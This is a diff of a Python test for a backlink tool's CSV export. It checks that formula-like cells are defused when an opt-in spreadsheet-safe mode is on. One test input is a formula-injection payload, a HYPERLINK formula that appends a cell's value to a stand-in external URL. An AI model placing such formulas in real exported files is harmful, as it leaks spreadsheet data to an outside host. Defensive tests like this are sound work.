@@ -8,7 +8,7 @@ import json
 from datetime import datetime, timezone
 
 from backlinkspider import __version__
-from backlinkspider.export import disavow_file, read_disavow_list, write_csv, write_jsonl
+from backlinkspider.export import cell, disavow_file, read_disavow_list, write_csv, write_jsonl
 from backlinkspider.store import EXPORT_COLUMNS
 
 ROW = dict.fromkeys(EXPORT_COLUMNS) | {
@@ -22,7 +22,7 @@ ROW = dict.fromkeys(EXPORT_COLUMNS) | {
 }
 
 
-def test_csv_cells_that_look_like_formulas_are_defused():
+def test_spreadsheet_safe_csv_cells_that_look_like_formulas_are_defused():
     anchors = [
         '=HYPERLINK("http://x.example/?"&A1,"win")',
         "+1 deal",
@@ -33,9 +33,14 @@ def test_csv_cells_that_look_like_formulas_are_defused():
         "",
     ]
     out = io.StringIO()
-    assert write_csv(({**ROW, "anchor": a} for a in anchors), out) == len(anchors)
+    assert write_csv(({**ROW, "anchor": a} for a in anchors), out, spreadsheet_safe=True) == len(anchors)
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert [r["anchor"] for r in rows] == ["'" + a for a in anchors[:5]] + ["acme = good", ""]
+    # Off by default: the data round-trips as stored.
+    plain = io.StringIO()
+    write_csv(({**ROW, "anchor": a} for a in anchors), plain)
+    assert [r["anchor"] for r in csv.DictReader(io.StringIO(plain.getvalue()))] == anchors
+    assert cell("\rcr", spreadsheet_safe=True) == "'\rcr" and cell("\rcr") == "\rcr"
     assert rows[0]["first_seen"] == "2026-11-01T03:04:05Z" and rows[0]["lost_at"] == ""
     assert rows[0]["target_status"] == "200" and list(rows[0]) == list(EXPORT_COLUMNS)
 
